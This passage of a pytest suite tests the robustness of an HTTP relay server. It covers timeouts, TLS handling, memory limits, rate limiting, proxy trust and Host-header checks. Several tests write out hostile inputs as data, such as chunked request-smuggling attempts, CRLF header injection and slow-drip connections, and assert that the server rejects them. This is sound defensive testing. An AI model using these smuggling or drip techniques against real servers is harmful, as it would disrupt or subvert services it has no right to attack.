                 b"\r\n\r\nGET /api/models HTTP/1.1\r\nHost: localhost\r\n\r\n")
    assert answer.count(b"HTTP/1.1 ") == 1 and b'"status":"ok"' in answer


@pytest.mark.parametrize("method, path", [
    ("GET", "/healthz"), ("OPTIONS", "/v1/models"), ("DELETE", "/api/services/none"),
    ("GET", "/api/models")])
def test_an_answer_to_an_unread_body_says_that_the_connection_closes(relay, method, path):
    assert ask(relay, path, b"{}", method)[2]["Connection"] == "close"
    assert ask(relay, path, None, method)[2]["Connection"] is None


def test_a_chunked_request_is_read_and_cannot_smuggle_another(relay, hand):
    head = b"POST /%s HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n" \
        % hand.name.encode()
    body = b'5\r\n{"com\r\n16;a=b\r\nmand":"getmodels"    }\r\n0\r\n\r\n'
    assert raw(relay, head + body).startswith(b"HTTP/1.1 200")
    for bad in (b"5 x\r\n", b"-5\r\n", b"0x5\r\n", b"5\r\nabcdefg\r\n", b"FFFFFFFFF\r\n",
                b"0\r\nTrailer: x\r\n\r\n"):
        answer = raw(relay, head + bad + b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        assert answer.count(b"HTTP/1.1") == 1 and b" 400 " in answer[:20]


def test_head_and_options_are_answered(relay):
    answer = raw(relay, b"HEAD /api/models HTTP/1.1\r\nHost: localhost\r\n"
                 b"Connection: close\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"\r\n\r\n")
    status, _, headers = ask(relay, "/v1/models", method="OPTIONS",
                             Access_Control_Request_Headers="authorization, x-stainless-os")
    assert status == 204
    assert headers["Access-Control-Allow-Headers"] == "authorization, x-stainless-os"
    for odd in ("x;y", "x" * 3000):
        assert ask(relay, "/v1/models", method="OPTIONS", Access_Control_Request_Headers=odd)[
            2]["Access-Control-Allow-Headers"] == "*"
    assert headers["Access-Control-Allow-Origin"] == "*"


def test_an_expected_continue_comes_only_if_the_body_is_wanted(relay, hand):
    head = b"POST /%s HTTP/1.1\r\nHost: localhost\r\nExpect: %s\r\nContent-Length: %d\r\n" \
        b"Connection: close\r\n\r\n"
    body = b'{"command":"getmodels"}'
    name = hand.name.encode()
    good = raw(relay, head % (name, b"100-continue", len(body)) + body)
    assert good.startswith(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200")
    assert raw(relay, head % (name, b"100-continue", 1 << 30)).startswith(b"HTTP/1.1 413")


@pytest.mark.parametrize("data", [
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 20000 + b"\r\n\r\n",
    b"POST /a HTTP/1.1\r\nHost: localhost\r\n\r\n", b"nonsense\r\n\r\n", b"\x16\x03\x01\x02\x00",
    b"POST /a HTTP/1.1\r\nHost: localhost\r\nContent-Length: 10\r\n\r\nshort"])
def test_broken_requests_are_answered_or_closed_and_never_a_500(relay, data):
    mistakes = relay.tally.counted()["errors", "internal_error"]
    answer = raw(relay, data)
    assert not answer or answer[9:10] == b"4"
    assert relay.tally.counted()["errors", "internal_error"] == mistakes


def test_a_head_that_drips_times_out():
    with running_relay(limits=Limits(head_seconds=0.4)) as relay, socket.create_connection(
            relay.server_address) as sock:
        began, answer = time.monotonic(), b""
        sock.settimeout(0.1)
        while not answer:
            sock.sendall(b"G")
            with contextlib.suppress(socket.timeout):
                answer = sock.recv(100)
        assert b" 408 " in answer and 0.3 < time.monotonic() - began < patient(5)


@pytest.mark.parametrize("limit, start", [
    ("head_seconds", b""), ("head_seconds", b"GET / HTTP/1.1\r\n"),
    ("body_seconds", b"POST /x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 900\r\n\r\n"),
    ("idle_seconds", b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")])
@pytest.mark.parametrize("secure", [False, True])
def test_a_silent_or_dripping_peer_times_out(tmp_path, limit, start, secure):
    tls = None
    if secure:
        if not shutil.which("openssl"):
            pytest.skip("needs the openssl program")
        tls = neuroengine_server.Certificate(*neuroengine_server.self_signed(str(tmp_path)))
    limits = {name: 30 for name in ("head_seconds", "body_seconds", "idle_seconds")}
    with running_relay(tls=tls, limits=Limits(**dict(limits, **{limit: 0.3}))) as relay:
        sock = socket.create_connection(relay.server_address, SOON)
        if secure:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            sock = context.wrap_socket(sock)
        began = time.monotonic()
        with contextlib.suppress(OSError):
            sock.sendall(start)
            for _ in range(20 if start and limit != "idle_seconds" else 0):
                sock.sendall(b"x")         # never silent for as long as the limit
                time.sleep(0.03)
        with contextlib.suppress(OSError):
            while sock.recv(65536):
                pass
        sock.close()
        until(lambda: relay.bounds.connections.taken == 0)
        assert time.monotonic() - began < patient(6)


def plain_wire(tls=None, **limits):
    """A Connection, and the socket at its other end."""
    ours, theirs = socket.socketpair()
    theirs.settimeout(SOON)
    wire = neuroengine_server.Connection(ours, Limits(**limits), tls)
    wire.idle_until = None                 # it has had its first request
    return wire, theirs


def head_of(wire, seconds=SOON):
    """The next request's Head."""
    if not wire.has_request(seconds):
        raise neuroengine_server.PeerGone()
    return neuroengine_server.read_head(wire, wire._limits)


def client_context(version=ssl.TLSVersion.TLSv1_3):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.maximum_version = version
    return context


def server_context(tmp_path):
    if not shutil.which("openssl"):
        pytest.skip("needs the openssl program")
    return neuroengine_server.tls_context(*neuroengine_server.self_signed(str(tmp_path)))


def secured(tmp_path, version=ssl.TLSVersion.TLSv1_3, **limits):
    """The same with TLS, hands shaken; the other end raises at a cut without goodbye."""
    wire, theirs = plain_wire(server_context(tmp_path), **limits)
    shaken = in_thread(client_context(version).wrap_socket, theirs,
                       suppress_ragged_eofs=False)
    wire.shake_hands(SOON)
    return wire, shaken()


class BytesClient:
    """A TLS client whose bytes are in the test's hands; its last ones were not sent."""

    def __init__(self, sock, wire):
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = client_context().wrap_bio(self.incoming, self.outgoing)
        shaken = in_thread(wire.shake_hands, SOON)
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                sock.sendall(self.outgoing.read())
                self.incoming.write(sock.recv(65536))
        self.shaken = shaken

    def bytes_of(self, data):
        self.tls.write(data)
        return self.outgoing.read()


def test_tls_a_request_may_come_with_the_last_of_the_handshake(tmp_path):
    wire, peer = plain_wire(server_context(tmp_path))
    client = BytesClient(peer, wire)
    peer.sendall(client.bytes_of(b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n"))
    assert client.shaken() is None
    assert head_of(wire).path == ("a",)
    wire.sock.close()
    peer.close()


def test_tls_records_may_be_cut_anywhere_and_come_together(tmp_path):
    wire, peer = plain_wire(server_context(tmp_path), head_seconds=SOON)
    client = BytesClient(peer, wire)
    peer.sendall(client.outgoing.read())
    assert client.shaken() is None
    data = b""
    for number in range(3):
        data += client.bytes_of(b"GET /%d HTTP/1.1\r\n" % number)
        data += client.bytes_of(b"Host: x\r\n\r\n")

    def send(size):
        for start in range(0, len(data), size):
            peer.sendall(data[start:start + size])
            time.sleep(0.001)
        return True
    sent_all = in_thread(send, 40)
    assert [head_of(wire).path[0] for _ in range(3)] == ["0", "1", "2"]
    assert sent_all() and not wire.buffer
    data = b"".join(client.bytes_of(b"GET /%d HTTP/1.1\r\nHost: x\r\n\r\n" % number)
                    for number in range(3))
    sent_all = in_thread(send, len(data))
    assert [head_of(wire).path[0] for _ in range(3)] == ["0", "1", "2"]
    assert sent_all() and not wire.buffer
    wire.sock.close()
    peer.close()


def test_tls_a_goodbye_behind_a_request_does_not_take_it_back(tmp_path):
    wire, peer = plain_wire(server_context(tmp_path), head_seconds=SOON)
    client = BytesClient(peer, wire)
    peer.sendall(client.outgoing.read())
    assert client.shaken() is None
    data = client.bytes_of(b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n")
    with contextlib.suppress(ssl.SSLError):
        client.tls.unwrap()
    peer.sendall(data + client.outgoing.read())
    assert head_of(wire).path == ("a",)
    peer.sendall(b"x")
    with pytest.raises(neuroengine_server.PeerGone):
        wire.wait_for_more(SOON)
    wire.sock.close()
    peer.close()


def test_tls_a_peer_that_only_provokes_answers_is_cut(tmp_path):
    wire, peer = secured(tmp_path)
    peer.sendall(b"x")
    wire.tls._outgoing.write(bytes(20000))           # as by attempts to renegotiate
    with pytest.raises(neuroengine_server.PeerGone):
        wire.wait_for_more(SOON)
    wire.sock.close()
    peer.close()


@pytest.mark.skipif(not hasattr(select, "EPOLLRDHUP"),
                    reason="this system cannot tell them apart")
def test_tls_two_early_bytes_are_not_taken_for_a_goodbye(tmp_path):
    (wire, peer), watcher, gone = secured(tmp_path), neuroengine_server.HangUps(), []
    with watcher.watching(wire):
        wire.when_gone(lambda: gone.append(True))
        peer.sendall(b"\r\n")
        assert select.select([wire], [], [], SOON)[0]
        watcher.look()
        assert not gone
        peer.close()
        watcher.look()
        assert gone
        wire.when_gone(lambda: gone.append("at once"))
        assert gone[-1] == "at once"
    wire.sock.close()


def test_tls_a_record_that_drips_does_not_prolong_a_wait(tmp_path):
    wire, peer = secured(tmp_path)
    began = time.monotonic()

    def drip():
        with contextlib.suppress(OSError):
            for byte in b"\x17\x03\x03\x01\x00" + 100 * b"x":
                socket.socket.send(peer, bytes([byte]))
                time.sleep(0.05)
        return True
    wait = in_thread(drip)
    with pytest.raises(neuroengine_server.PeerGone):
        head_of(wire, 0.3)
    assert time.monotonic() - began < patient(3)    # that of all of it would take 5
    wire.sock.close()
    assert wait()
    peer.close()


def test_bytes_that_the_kernel_does_not_accept_stay_unsent():
    wire, peer = plain_wire()
    while not wire.unsent:
        wire.send_now(bytes(100000))
    wire.send_now(b"more")
    assert wire.unsent == b"more"
    wire.sock.close()
    peer.close()


def test_an_answer_in_two_entries_of_one_reply_is_answered_once(relay, hand):
    client = sent(relay, "/" + hand.name, {"message": "x"})
    job = hand.next_job()
    entry = {"job": job["job"], "attempt": job["attempt"]}
    hand.running.clear()
    hand.call("reply", session=hand.session, replies=[
        dict(entry, at=0, items=["one"]), dict(entry, at=1, items=["!"], done=True)])
    client.shutdown(socket.SHUT_WR)
    got = b"".join(iter(lambda: client.recv(65536), b""))
    assert b'"one!"' in got and got.count(b"HTTP/1.1") == 1
    client.close()


def test_half_delivered_answers_are_sent_again(relay, hand):
    jobs = relay.broker.counts["jobs"]
    reader = socket.socket()
    reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    reader.connect(relay.server_address[:2])
    reader.sendall(b"POST /%s HTTP/1.1\r\nHost: localhost\r\nContent-Length: 19\r\n\r\n"
                   b'{"message": "once"}' % hand.name.encode())
    job = hand.next_job()
    for connection in list(relay.active):
        connection.connection.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8192)
    hand.reply(job, ["y" * 250000], done=True)
    reader.recv(1000)
    reader.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    reader.close()                         # reset, as a line that breaks
    until(lambda: relay.bounds.waiting.taken == 0)
    again = sent(relay, "/" + hand.name, {"message": "once"})
    assert again.recv(100).startswith(b"HTTP/1.1 200")
    assert relay.broker.counts["jobs"] == jobs + 1
    again.close()


def test_a_peer_that_sends_only_tls_s_own_business_does_not_hold_up_the_lobby():
    peer, sock = socket.socketpair()
    with peer, sock:
        connection = neuroengine_server.Connection(sock, Limits())
        records = []
        connection.tls = types.SimpleNamespace(decrypt=lambda data: records.append(data) or b"")
        peer.sendall(bytes(100000))
        assert not connection.take_in() and len(records) == 1


def test_a_long_list_of_access_keys_counts_as_memory():
    with running_relay() as relay:
        hand = Hand(relay)
        service = relay.broker.find(hand.name)
        for n in range(1000):
            service.keys[n] = neuroengine_server.AccessKey(
                "%016x" % n, "", "\u2603" * 100, 0.0, *[None] * 5, 0, 0, 0, None)
        take, taken = relay.bounds.bytes.take, []
        relay.bounds.bytes.take = lambda address, size, **kw: (
            taken.append(size) or take(address, size, **kw))
        status, answer, _ = ask(relay, "/api/services/%s/keys" % hand.name,
                                Authorization="Bearer " + hand.key)
        assert status == 200 and len(answer["keys"]) == 1000 and max(taken) > 400000
        hand.logout()


@pytest.mark.parametrize("first", [True, False], ids=["at once", "later"])
def test_pipelined_requests_take_little_memory_while_one_is_answered(relay, hand, first):
    more = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: %s\r\n\r\n" % (b"x" * 4000) * 12
    with socket.create_connection(relay.server_address, SOON) as sock:
        sock.sendall(b"POST /%s HTTP/1.1\r\nHost: localhost\r\nContent-Length: 15\r\n\r\n"
                     b'{"message":"x"}' % hand.name.encode() + (more if first else b""))
        job = hand.next_job()
        if not first:
            sock.sendall(more)
        exchange, = [e for e in list(relay.active) if e.head and e.head.path == (hand.name,)]
        assert len(exchange.connection.buffer) < 5000
        hand.reply(job, ["a"], done=True)
        answers = b""
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_WR)
            for piece in iter(lambda: sock.recv(65536), b""):
                answers += piece
    assert answers.startswith(b"HTTP/1.1 200 ") and b'"reply":"a"' in answers
    if first:                              # the client must send the others again
        assert answers.count(b"HTTP/1.1 ") == 1 and b"Connection: close" in answers


def test_a_long_head_counts_as_memory_until_its_request_is_answered(relay, hand):
    sock = sent(relay, "/" + hand.name, {"message": "x"}, X="y" * 12000)
    job = hand.next_job()
    assert relay.bounds.bytes.taken > 12000
    hand.reply(job, ["a"], done=True)
    assert sock.recv(100).startswith(b"HTTP/1.1 200 ")
    until(lambda: relay.bounds.bytes.taken == 0)
    sock.close()


def test_of_two_heads_that_begin_alike_each_is_itself(relay):
    begin = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: "
    begin += b"y" * (254 - len(begin)) + b"\r\n"
    assert len(begin) == 256
    with socket.create_connection(relay.server_address, SOON) as sock:
        sock.sendall(begin + b"X: %s\r\n\r\n" % (b"z" * 3000))
        assert sock.recv(4096).startswith(b"HTTP/1.1 200 ")
        sock.sendall(begin + b"\r\n")
        assert b"Connection: close" not in sock.recv(4096)


@pytest.mark.parametrize("method, path", [
    ("POST", "/api/services"), ("PATCH", "/api/services/%s"),
    ("POST", "/api/services/%s/keys"), ("PATCH", "/api/services/%s/keys/id")])
def test_no_prompt_waits_while_an_operators_large_body_is_stored(relay, hand, method, path):
    """Large bodies are parsed one at a time, until what they say has been done."""
    with relay.registry.changing:          # the disk is slow
        storing = in_thread(ask, relay, path.replace("%s", hand.name), {
            "name": hand.name + "2", "label": "x", "comment": "x", "more": "y" * 100000},
            method=method, Authorization="Bearer " + hand.key)
        assert storing()[0] == 413


@pytest.mark.parametrize("action", ["login", "logout"])
def test_a_provider_that_does_not_read_its_answer_holds_up_no_large_body(
        relay, hand, action, monkeypatch):
    taken, send = [], neuroengine_server.Connection.send
    monkeypatch.setattr(neuroengine_server.Connection, "send", lambda wire, data: (
        taken.append(relay.bounds.large_bodies.taken()), send(wire, data)))
    hand.call(action, session=hand.session, more="x" * neuroengine_server.LARGE_BODY_BYTES)
    assert taken and not any(taken)


def test_large_pieces_for_slow_readers_count_as_memory():
    with running_relay() as relay:
        hand = Hand(relay)
        body = {"message": "x", "key": "k", "stream": True, "at": 0}
        readers = [sent(relay, "/" + hand.name, body) for _ in range(3)]
        job = hand.next_job()
        until(lambda: len(relay.broker._jobs[job["job"]].readers) == 3)
        hand.reply(job, ["y" * 8000000])
        until(lambda: relay.bounds.bytes.taken > 20000000)
        for reader in readers:
            reader.close()
        until(lambda: relay.bounds.bytes.taken == 0)


@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3])
def test_tls_unsent_bytes_precede_close_notify(
        tmp_path, version):
    wire, peer = secured(tmp_path, version)
    expected = b""
    while not wire.unsent:
        expected += b"%07d " % len(expected) * 10000
        wire.send_now(expected[-80000:])
    got = in_thread(lambda: b"".join(iter(lambda: peer.recv(65536), b"")))
    wire.flush()
    wire.send(b"last" * 50000)
    wire.say_goodbye()
    assert got() == expected + b"last" * 50000       # and no SSLEOFError
    wire.sock.close()
    peer.close()


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
@pytest.mark.parametrize("how", ["its time is over", "the peer says so", "later"])
def test_tls_an_idle_connection_ends_with_close_notify(tmp_path, how):
    cert = neuroengine_server.self_signed(str(tmp_path))
    with running_relay(tls=neuroengine_server.Certificate(*cert), limits=Limits(
            idle_seconds=0.5 if how == "its time is over" else 60)) as own:
        peer = client_context().wrap_socket(socket.create_connection(
            own.server_address, SOON), suppress_ragged_eofs=False)
        peer.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
        peer.recv(4096)
        if how == "later":
            until(lambda: own.lobby._parked)
        if how == "its time is over":
            assert peer.recv(1) == b""     # no SSLEOFError
        else:
            peer.unwrap()
        peer.close()


@pytest.mark.skipif(not shutil.which("openssl"), reason="needs the openssl program")
def test_tls_a_response_that_is_cut_does_not_end_with_close_notify(tmp_path, monkeypatch):
    def broken(*_):
        raise ValueError("a fault amid the answer")

    cert = neuroengine_server.self_signed(str(tmp_path))
    with running_relay(tls=neuroengine_server.Certificate(*cert)) as own:
        monkeypatch.setattr(neuroengine_server.HttpExchange, "send_parts", broken)
        monkeypatch.setattr(neuroengine_server.Tls, "farewell", broken)
        peer = client_context().wrap_socket(socket.create_connection(own.server_address, SOON))
        peer.sendall(b"GET /healthz HTTP/1.0\r\n\r\n")
        assert peer.recv(1) == b""
        peer.close()


def test_tls_nonsense_ends_reads_and_writes(tmp_path):
    wire, peer = secured(tmp_path)
    socket.socket.send(peer, b"\x17\x03\x03\x00\x20" + b"x" * 32)
    for attempt in (lambda: wire.wait_for_more(SOON), lambda: wire.send_now(b"x"),
                    lambda: wire.send(b"x")):
        with pytest.raises(neuroengine_server.PeerGone):
            attempt()
    assert wire.unsent == b""              # least of all as it is
    wire.sock.close()
    peer.close()


@pytest.mark.parametrize("secure", [False, True])
def test_a_peer_that_does_not_read_times_out(tmp_path, secure):
    wire, theirs = secured(tmp_path, write_seconds=0.3) if secure else plain_wire(
        write_seconds=0.3)
    began = time.monotonic()

    def drip():
        with contextlib.suppress(OSError):
            while theirs.recv(100):
                time.sleep(0.05)           # it reads, but far too slowly
    wait = in_thread(drip)
    with pytest.raises(neuroengine_server.PeerGone):
        wire.send(b"x" * 10000000)
    assert time.monotonic() - began < patient(5)
    wire.sock.close()
    theirs.close()
    with contextlib.suppress(AssertionError):
        wait()


def test_a_malformed_response_header_raises(relay):
    exchange = neuroengine_server.HttpExchange(relay, argparse.Namespace(address=""))
    with pytest.raises(ValueError):
        exchange.head_bytes(200, "text/plain", {"x": "a\r\nInjected: b"})


def test_connections_are_bounded_and_the_next_gets_a_503():
    with running_relay(limits=Limits(max_connections=2)) as relay:
        with socket.create_connection(relay.server_address[:2]), \
                socket.create_connection(relay.server_address[:2]):
            until(lambda: relay.bounds.connections.taken == 2)
            status, answer, headers = ask(relay, "/healthz")
            assert status == 503 and answer["error"] == "relay_busy"
            assert headers["Retry-After"]
        until(lambda: relay.bounds.connections.taken == 0)
        assert ask(relay, "/healthz")[0] == 200


def test_a_refused_connection_hears_the_status_of_its_error(relay):
    ours, theirs = socket.socketpair()
    theirs.settimeout(SOON)
    relay._refuse(ours, RelayError("rate_limited", "Too many.", retry_after=7))
    answer = b"".join(iter(lambda: theirs.recv(4096), b""))
    assert answer.startswith(b"HTTP/1.1 429") and b"Retry-After: 7\r\n" in answer
    theirs.close()


def test_a_connection_that_cannot_be_set_up_gives_its_slot_back(relay, monkeypatch):
    def broken(*_):
        raise OSError("no such option")

    monkeypatch.setattr(neuroengine_server, "Connection", broken)
    with pytest.raises(OSError), socket.socket() as sock:
        relay.process_request(sock, ("203.0.113.78", 1))
    assert "203.0.113.78" not in relay.bounds.connections._by


def test_wrong_keys_are_limited_and_a_right_one_still_works():
    with running_relay(limits=Limits(max_wrong_keys_per_minute=5)) as relay:
        hand = Hand(relay)
        path = "/api/services/" + hand.name
        statuses = [ask(relay, path, Authorization="Bearer no%d" % n)[0] for n in range(8)]
        assert statuses == [401] * 5 + [429] * 3
        status, answer, headers = ask(relay, path, Authorization="Bearer no")
        assert answer["error"] == "rate_limited" and 1 <= int(headers["Retry-After"]) <= 12
        assert ask(relay, path, Authorization="Bearer " + hand.key)[0] == 200
        hand.logout()


@pytest.mark.parametrize("hops, header, address", [
    (1, "203.0.113.9", "203.0.113.9"), (1, "6.6.6.6, 203.0.113.9", "203.0.113.9"),
    (2, "203.0.113.9, 10.0.0.1", "203.0.113.9"), (2, "203.0.113.9", "127.0.0.1"),
    (1, "", "127.0.0.1"), (1, "6.6.6.6, unknown", "127.0.0.1"),
    (1, "2001:db8:1:2:3:4:5:6", "2001:db8:1:2::/64"), (1, "203.0.113.9:5678", "203.0.113.9"),
    (1, "[2001:db8:1:2::6]:5678", "2001:db8:1:2::/64"), (1, "[::6]", "::/64")])
def test_a_trusted_proxys_last_forwarded_address_counts(hops, header, address):
    network = neuroengine_server.ipaddress.ip_network("127.0.0.0/8")
    with running_relay(proxies=[network], hops=hops) as relay:
        head = parse_head(b"GET / HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: %s\r\n"
                          % header.encode())
        assert relay.forwarded_for(head, "127.0.0.1") == address
        assert relay.is_proxy("::ffff:127.0.0.1") and not relay.is_proxy("10.0.0.1")


@pytest.mark.parametrize("address, counted", [
    ("203.0.113.9", "203.0.113.9"), ("::ffff:203.0.113.9", "203.0.113.9"), ("::1", "::1"),
    ("2001:db8:1:2:3:4:5:6", "2001:db8:1:2::/64"), ("fe80::1%eth0", "fe80::/64")])
def test_an_address_counts_as_its_household(address, counted):
    assert neuroengine_server.canonical_address(address) == counted


def test_limits_apply_to_the_client_of_a_trusted_proxy():
    network = neuroengine_server.ipaddress.ip_network("127.0.0.1")
    with running_relay(proxies=[network], limits=Limits(
            max_registrations_per_hour=1, max_connections_per_address=1)) as relay:
        def register(address):
            return ask(relay, "/api/services", {"name": name_of()},
                       X_Forwarded_For="6.6.6.6, " + address)[0]
        assert [register("203.0.113.9"), register("203.0.113.9")] == [201, 429]
        assert register("203.0.113.10") == 201
        hand, service = Hand(relay), {"message": "x", "wait": True}
        first = sent(relay, "/" + hand.name, service, X_Forwarded_For="203.0.113.9")
        until(lambda: relay.bounds.waiting.taken == 1)
        assert ask(relay, "/" + hand.name, service, X_Forwarded_For="203.0.113.9")[
            1]["error"] == "rate_limited"
        first.close()
        hand.logout()


def test_names_changes_and_logins_are_limited_for_each_address():
    far = {"X_Forwarded_For": "203.0.113.9"}           # it did not come from this machine
    with running_relay(limits=Limits(max_registrations_per_hour=2)) as own:
        path, key = "/api/services/", ask(own, "/api/services", {"name": "One"}, **far)[1]["key"]
        far["Authorization"] = "Bearer " + key
        assert ask(own, path + "One", {"name": "Two"}, "PATCH", **far)[0] == 200
        assert ask(own, path + "Two", {"name": "Three"}, "PATCH", **far)[0] == 429
    del far["Authorization"]
    with running_relay(limits=Limits(max_changes_per_minute=4)) as own:
        key = ask(own, "/api/services", {"name": "One"}, **far)[1]["key"]
        far["Authorization"] = "Bearer " + key
        assert [ask(own, path + "One", {"comment": "x"}, "PATCH", **far)[0]
                for _ in range(4)] == [200, 200, 200, 429]
        assert ask(own, "/provider/One/login", {}, **far)[0] == 429


def test_access_keys_are_a_bounded_number_of_a_service_and_in_all(monkeypatch):
    monkeypatch.setattr(neuroengine_server, "MAX_KEYS", 1)
    with running_relay(limits=Limits(max_access_keys=2)) as own:
        hands = [Hand(own) for _ in range(3)]
        assert [[manage(own, hand, "POST", "/keys", {})[0] for _ in range(2)]
                for hand in hands] == [[201, 400], [201, 400], [503, 503]]
        for hand in hands:
            hand.logout()


def test_without_a_trusted_proxy_its_header_means_nothing(relay):
    for _ in range(3):
        ask(relay, "/api/models", X_Forwarded_For="203.0.113.77")
    assert not any("203.0.113" in address for address in relay.bounds.connections._by)


@pytest.mark.parametrize("host, status", [
    ("localhost", 200), ("localhost:8000", 200), ("LOCALHOST", 200), ("127.0.0.1:80", 200),
    ("[::1]:8000", 200), ("relay.example.org", 200), ("evil.example", 403),
    ("evil.example:8000", 403), ("localhost.evil.example", 403), ("127.0.0.1.nip.io", 403)])
def test_a_relay_of_this_machine_alone_answers_to_its_own_names_only(host, status):
    with running_relay(names=["relay.example.org"]) as relay:
        answer = raw(relay, b"GET /healthz HTTP/1.1\r\nHost: %s\r\n\r\n" % host.encode())
        assert int(answer.split()[1]) == status


def test_addresses_take_turns_at_a_lock_however_many_wait_for_one():
    turns, order = neuroengine_server.Turns(), []

    def take(address):
        with turns.turn(address):
            order.append(address)
    threads = []
    with turns.turn("greedy"), turns.turn("greedy"):       # the same thread may take it twice
        for address in ["greedy"] * 3 + ["modest", "2001:db8:1:2::/64", "2001:db8:1:3::/64"]:
            threads.append(threading.Thread(target=take, args=(address,)))
            threads[-1].start()
            until(lambda: sum(map(len, turns._waiting.values())) == len(threads))
    for thread in threads:
        thread.join(SOON)
    assert order == ["greedy", "modest", "2001:db8:1:2::/64", "greedy", "2001:db8:1:3::/64",
                     "greedy"] and not turns.taken()


def test_large_bodies_count_by_their_size_for_their_address():
    """One below a MiB cost its sender nothing, and kept the parser busy."""
    with running_relay() as own:
        far, body = {"X_Forwarded_For": "203.0.113.9"}, b" " * (1 << 19)
        own.bounds.megabytes._clock = lambda: 0.0
        own.bounds.megabytes.take_by_address(
            "127.0.0.1", neuroengine_server.LARGE_PER_MINUTE, 60, "MB",
            neuroengine_server.LARGE_PER_MINUTE - 0.6)
        assert [ask(own, "/v1/completions", body, **far)[0] for _ in range(2)] == [400, 429]


def test_waiting_prompts_and_polls_leave_connections_for_control():
    with running_relay(limits=Limits(max_polls=1, max_waiting=1)) as relay:
        hand, other = Hand(relay), Hand(relay)
        parked = in_thread(hand.poll)
        until(lambda: relay.bounds.polls.taken == 1)
        with pytest.raises(AssertionError, match="relay_busy"):
            other.poll()
        waiting = sent(relay, "/" + other.name, {"message": "x"})
        until(lambda: relay.bounds.waiting.taken == 1)
        status, answer, headers = ask(relay, "/" + other.name, {"message": "x"})
        assert (status, answer["error"]) == (503, "relay_busy") and headers["Retry-After"]
        assert ask(relay, "/api/models")[0] == 200
        waiting.close()
        until(lambda: relay.bounds.waiting.taken == 0)
        answer = in_thread(ask, relay, "/" + hand.name, {"message": "x"})
        hand.reply(parked()["jobs"][0], ["x"], done=True)
        assert answer()[0] == 200
        hand.logout()


def test_the_longest_idle_connection_makes_room_for_the_next_one():
    with running_relay(limits=Limits(max_connections=2)) as relay:
        idle = []
        for count in (1, 2):
            idle.append(socket.create_connection(relay.server_address, SOON))
            until(lambda count=count: len(relay.lobby._parked) == count)
        refused = socket.create_connection(relay.server_address, SOON)
        assert refused.recv(100).startswith(b"HTTP/1.1 503")
        assert idle[0].recv(1) == b""      # of the two, the first
        until(lambda: relay.bounds.connections.taken == 1)
        assert ask(relay, "/healthz")[0] == 200
        for sock in idle + [refused]:
            sock.close()


def test_bodies_under_way_count_as_memory_and_small_ones_always_pass():
    size = 4 * neuroengine_server.MAX_SMALL_BODY_BYTES
    with running_relay(limits=Limits(max_held_bytes=4 * size,
                                     max_request_bytes=2 * size)) as relay:
        hand = Hand(relay)
        first = socket.create_connection(relay.server_address, SOON)
        first.sendall(b"POST /%s HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n"
                      b"Expect: 100-continue\r\n\r\n" % (hand.name.encode(), size + 1))
        first.recv(100)                    # it reads the body now, all that comes counts
        first.sendall(b" " * (size - 1))
        until(lambda: relay.bounds.bytes.taken > size - 1 - neuroengine_server.SMALL_PIECE)
        status, answer, _ = ask(relay, "/" + hand.name, b" " * size)
        assert (status, answer["error"]) == (503, "relay_busy")
        waiting = in_thread(ask, relay, "/" + hand.name, {"message": "x" * 10000})
        hand.reply(hand.next_job(), ["y" * 10000], done=True)
        assert waiting()[0] == 200
        first.close()
        until(lambda: relay.bounds.bytes.taken == 0)
        assert ask(relay, "/" + hand.name, b" " * (size // 2))[0] == 400
        hand.logout()


def test_an_operators_bodies_have_reserved_memory():
    network = neuroengine_server.ipaddress.ip_network("127.0.0.1")
    with running_relay(proxies=[network], limits=Limits(max_held_bytes=1 << 22)) as own:
        hand, room, far = Hand(own), own.bounds.bytes, {"X_Forwarded_For": "203.0.113.9"}
        room.take("203.0.113.1", room.most - room.most // 10)    # all that strangers may have
        body = b" " * (room.most // 12)
        assert ask(own, "/" + hand.name, body, **far)[1]["error"] == "relay_busy"
        assert ask(own, "/provider/%s/reply" % hand.name, body, Authorization="Bearer "
                   + hand.key, **far)[1]["error"] == "invalid_json"
        hand.logout()


def test_unread_responses_count_as_memory():
    size = 4 * neuroengine_server.MAX_SMALL_BODY_BYTES
    with running_relay(limits=Limits(max_held_bytes=40 * size)) as relay:
        hand = Hand(relay)
        body = {"message": "x", "key": "k", "gettokens": 9, "at": 0}
        waiting = in_thread(ask, relay, "/" + hand.name, body)
        hand.reply(hand.next_job(), ["y" * 4 * size], done=True)
        assert waiting()[0] == 200
        readers = [sent(relay, "/" + hand.name, body) for _ in range(2)]
        until(lambda: relay.bounds.bytes.taken > 7 * size)
        third = in_thread(ask, relay, "/" + hand.name, body)     # waits for room
        assert relay.bounds.bytes.taken <= relay.bounds.bytes.most
        for reader in readers:
            reader.close()
        assert third()[0] == 200
        until(lambda: relay.bounds.bytes.taken == 0)


@pytest.mark.parametrize("chunk", [None, 8])
def test_a_body_in_tiny_pieces_takes_little_more_than_its_bytes(chunk):
    """20 MB in segments of two bytes took 2.5 GB, as so many objects and slots."""
    size = 32000                           # 4,000 chunks are still accepted
